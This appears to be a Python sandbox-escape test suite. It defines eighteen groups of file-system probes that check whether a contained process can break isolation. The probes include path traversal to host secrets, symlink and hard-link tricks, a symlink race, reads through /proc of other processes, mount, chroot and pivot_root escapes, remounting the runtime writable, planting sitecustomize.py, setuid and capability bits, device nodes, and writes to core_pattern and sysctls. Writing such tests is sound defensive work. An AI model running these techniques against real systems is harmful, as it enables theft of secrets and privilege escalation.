"""Attempts 1 to 18: files."""


@way(1, "read by its absolute path")
def _():
    return each(HOST["secrets"], content)


@way(2, "read by ../..")
def _():
    return each(HOST["secrets"], lambda path: content("../" * 40 + path.lstrip("/")))


@way(2, "read by .. behind a folder of its own")
def _():
    os.mkdir("own")
    return each(HOST["secrets"], lambda path: content("own/" + "../" * 41 + path.lstrip("/")))


@way(3, "plant a link for the host to read")
def _():
    os.symlink(HOST["secrets"][0], "answer")
    os.symlink(os.path.dirname(HOST["secrets"][0]), "folder")
    raise Absent("the host tells what it read")


@way(4, "write through a link to a folder")
def _():
    os.symlink(HOST["folder"], "door")
    with open("door/planted", "w") as file:
        file.write("planted")
    return "planted"


@way(4, "write over the file behind a link")
def _():
    os.symlink(HOST["folder"] + "/kept", "file")
    descriptor = os.open("file", os.O_WRONLY | os.O_TRUNC)
    os.write(descriptor, b"changed")
    return "changed"


@way(5, "read through a hard link")
def _():
    os.link(HOST["folder"] + "/kept", "hard")
    return content("hard")


@way(6, "swap a file for a link while the host copies it", 30)
def _():
    with open("plain", "w") as file:
        file.write("plain")
    os.symlink(HOST["secrets"][0], "link")
    until = time.monotonic() + HOST["race_seconds"]
    while time.monotonic() < until:
        for source in ("plain", "link"):
            try:
                os.symlink(HOST["secrets"][0], "new") if source == "link" \
                    else os.link("plain", "new")
                os.rename("new", "answer")
            except FileExistsError:
                os.unlink("new")
    raise Absent("the host tells what it read")


@way(7, "the root of another process")
def _():
    owners = ["1", str(HOST["victim"]["pid"]), str(HOST["engine"])]
    paths = ["/proc/%s/root%s" % (who, path) for who in owners for path in HOST["secrets"]]
    return each(paths, content)


@way(7, "the folder of another process")
def _():
    found = []
    for who in (name for name in os.listdir("/proc") if name.isdigit()):
        try:
            found.append(content("/proc/%s/cwd/canary" % who))
        except OSError:
            pass
    if not found:
        raise Failed("no other process has a folder with it")
    return found[0]


@way(7, "the words of another process")
def _():
    return content("/proc/%d/cmdline" % HOST["victim"]["pid"]).replace("\0", " ")


@way(8, "inherited descriptors")
def _():
    found = ""
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                found += os.pread(int(name), 200, 0).decode("utf-8", "replace")
            except OSError:
                pass
    if HOST["mark"] not in found:
        raise Failed("none that holds it")
    return found[found.index(HOST["mark"]):]


@way(9, "a descriptor of another process")
def _():
    return content("/proc/%d/fd/%d" % (HOST["victim"]["pid"], HOST["victim"]["descriptor"]))


@way(9, "a file mapped by another process")
def _():
    folder = "/proc/%d/map_files" % HOST["victim"]["pid"]
    return each(sorted(os.listdir(folder)), lambda name: marked(folder + "/" + name))


def marked(path):
    text = content(path)
    if HOST["mark"] not in text:
        raise Failed("another file")
    return text[text.index(HOST["mark"]):]


@way(10, "open the file by its handle")
def _():
    handle = bytes.fromhex(HOST["victim"]["handle"]["bytes"])
    blob = ctypes.create_string_buffer(
        struct.pack("Ii", len(handle), HOST["victim"]["handle"]["type"]) + handle)

    def through(place):
        mount = os.open(place, os.O_RDONLY)
        descriptor = call("open_by_handle_at", mount, blob, os.O_RDONLY)
        return os.read(descriptor, 200).decode()
    return each(["/usr", os.path.dirname(HOST["secrets"][0])], through)


@way(11, "mount a folder of memory")
def _():
    os.mkdir("m1")
    call("mount", b"none", b"m1", b"tmpfs", 0, 0)
    return "mounted"


@way(11, "bind the root")
def _():
    os.mkdir("m2")
    call("mount", b"/", b"m2", 0, 4096 | 16384, 0)
    return str(len(os.listdir("m2")))


@way(11, "open a file system")
def _():
    return call("fsopen", b"tmpfs", 0)


@way(11, "copy a tree of mounts and move it")
def _():
    os.mkdir("m3")
    tree = call("open_tree", -100, b"/", 1 | 0x8000)
    call("move_mount", tree, b"", -100, b"m3", 4)
    return "moved"


@way(11, "change the root and climb out")
def _():
    os.mkdir("below")
    call("chroot", b"below")
    return "changed"


@way(11, "swap the root")
def _():
    # With a root that cannot be one, only permission is asked.
    return reached("pivot_root", [errno.EINVAL, errno.EBUSY], b".", b".")


def is_read_only(path):
    return bool(os.statvfs(path).f_flag & os.ST_RDONLY)


@way(12, "mount the runtime again, writable")
def _():
    call("mount", 0, HOST["runtime"].encode(), 0, 32 | 4096, 0)
    if is_read_only(HOST["runtime"]):
        raise Failed("still read-only")
    return "writable"


@way(12, "clear its attribute")
def _():
    attributes = (ctypes.c_uint64 * 4)(0, 1, 0, 0)
    call("mount_setattr", -100, HOST["runtime"].encode(), 0, attributes, 32)
    if is_read_only(HOST["runtime"]):
        raise Failed("still read-only")
    return "writable"


@way(13, "write over a file of the runtime")
def _():
    with open(HOST["runtime"] + "/module.py", "a") as file:
        file.write("print('changed')")
    return "changed"


@way(13, "put a file beside it")
def _():
    with open(HOST["runtime"] + "/sitecustomize.py", "w") as file:
        file.write("print('planted')")
    return "planted"


@way(13, "open the standard library for writing")
def _():
    os.close(os.open(os.__file__, os.O_WRONLY))
    return "open"


@way(14, "leave a pipe for the host to read")
def _():
    os.mkfifo("answer")
    raise Absent("the host tells whether it waited")


@way(14, "leave a socket")
def _():
    socket.socket(socket.AF_UNIX).bind("socket")
    raise Absent("the host tells whether it waited")


@way(14, "leave a device")
def _():
    os.mknod("device", 0o20666, os.makedev(1, 5))
    return "made"


@way(15, "a file of 1 TB")
def _():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    descriptor = os.open("sparse", os.O_RDWR | os.O_CREAT)
    os.ftruncate(descriptor, 1 << 40)
    return str(os.fstat(descriptor).st_size)


@way(15, "deep folders and names with newlines", 30)
def _():
    with open("\n".join(["name"] * 40), "w") as file:
        file.write("x")
    with open("n" * 255, "w") as file:
        file.write("x")
    for _ in range(HOST["depth"]):
        os.mkdir("d")
        os.chdir("d")
    with open("bottom", "w") as file:
        file.write("x")
    raise Absent("the host tells what it cost")


@way(16, "make a file of the host run as its owner")
def _():
    os.chmod(HOST["folder"] + "/loose", 0o4755)
    return oct(os.stat(HOST["folder"] + "/loose").st_mode)


@way(16, "give a file capabilities")
def _():
    with open("capable", "w") as file:
        file.write("x")
    blob = ctypes.create_string_buffer(struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0))
    call("setxattr", b"capable", b"security.capability", blob, 20, 0)
    return "given"


@way(16, "run a program that is root's")
def _():
    if os.getuid() == 0:
        os.setgroups([])
        os.setresgid(65534, 65534, 65534)
        os.setresuid(65534, 65534, 65534)
    out = os.popen(HOST["runtime"] + "/as_root -u 2>/dev/null").read().strip()
    if out != "0":
        raise Failed("it ran as %r" % out)
    return "root"


@way(17, "make a device")
def _():
    os.mknod("zero", 0o20666, os.makedev(1, 5))
    return content("zero").encode().hex()[:8]


@way(17, "read a device that lies in the runtime")
def _():
    return content(HOST["runtime"] + "/device").encode().hex()[:8]


@way(17, "the host's memory and disks")
def _():
    return each(HOST["devices"], lambda path: os.close(os.open(path, os.O_RDONLY)) or path)


@way(18, "open the host's core pattern for writing")
def _():
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "open"


@way(18, "open a setting of the network for writing")
def _():
    os.close(os.open("/proc/sys/net/ipv4/ip_forward", os.O_WRONLY))
    return "open"


@way(18, "open a setting below /sys for writing")
def _():
    os.close(os.open("/sys/kernel/mm/transparent_hugepage/enabled", os.O_WRONLY))
    return "open"


@way(18, "set a limit of a cgroup")
def _():
    if not HOST["cgroup"]:
        raise Absent("cgroups cannot be written by this user")
    os.close(os.open(HOST["cgroup"] + "/cgroup.procs", os.O_WRONLY))
    return "open"
